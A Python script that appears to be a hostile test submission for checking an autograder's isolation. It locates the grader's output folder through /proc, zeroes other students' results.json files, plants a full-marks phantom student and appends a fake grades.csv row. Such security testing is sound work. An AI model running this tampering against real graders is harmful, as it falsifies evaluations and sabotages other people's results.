# ATTACK (machine): tampers with the gradebook. Finds the --out folder (from its own stdout, the log file
# <out>/<name>/output.log, or from the grader's command line), zeroes every other student's results.json
# there, adds a phantom student's results.json with full marks, and appends a phantom row to grades.csv.
# A secure grader: the learner's process cannot reach the --out folder; every other results.json is
# unchanged and grades.csv lists exactly the submissions graded.
import json
import os


def _grader():
    """The grading process: its pid, command line and working directory (today, the worker's parent)."""
    pid = os.getppid()
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        args, cwd = [], "/"
    return pid, args, cwd


def _out_dir():
    """The --out folder: from the log file the grader gave us as stdout (<out>/<name>/output.log), else
    from the grader's command line."""
    try:
        log = os.readlink("/proc/self/fd/1")
        if log.endswith("/output.log"):
            return os.path.dirname(os.path.dirname(log)), os.path.basename(os.path.dirname(log))
    except OSError:
        pass
    _, args, cwd = _grader()
    for i, a in enumerate(args):
        if a == "--out" and i + 1 < len(args):
            return os.path.join(cwd, args[i + 1]), None
        if a.startswith("--out="):
            return os.path.join(cwd, a[6:]), None
    return None, None


def _tamper():
    out, own = _out_dir()
    print(f"ATTACK tamper_results: out folder {out}, own folder {own}", flush=True)
    if not out or not os.path.isdir(out):
        return
    for name in sorted(os.listdir(out)):
        path = os.path.join(out, name, "results.json")
        if name == own or not os.path.isfile(path):
            continue
        try:
            with open(path) as f:
                res = json.load(f)
            res["score"] = 0.0
            for t in res.get("tests", []):
                t["score"] = 0.0
            with open(path, "w") as f:
                json.dump(res, f)
            print(f"ATTACK tamper_results: zeroed {path}", flush=True)
        except (OSError, ValueError) as exc:
            print(f"ATTACK tamper_results: {path}: {exc}", flush=True)
    phantom = {"score": 8.0, "tests": [
        {"name": "vector_add: correctness", "score": 2.0, "max_score": 2.0, "status": "passed", "output": "",
         "extra_data": {"exercise": "vector_add", "part": "correctness"}}],
        "extra_data": {"submission": "phantom_student.py"}}
    try:
        os.makedirs(os.path.join(out, "phantom_student"), exist_ok=True)
        with open(os.path.join(out, "phantom_student", "results.json"), "w") as f:
            json.dump(phantom, f)
        with open(os.path.join(out, "grades.csv"), "a") as f:
            f.write("phantom_row,2,2,1,5,8,0\n")
        print("ATTACK tamper_results: added phantom_student and a phantom row", flush=True)
    except OSError as exc:
        print(f"ATTACK tamper_results: {exc}", flush=True)


_tamper()
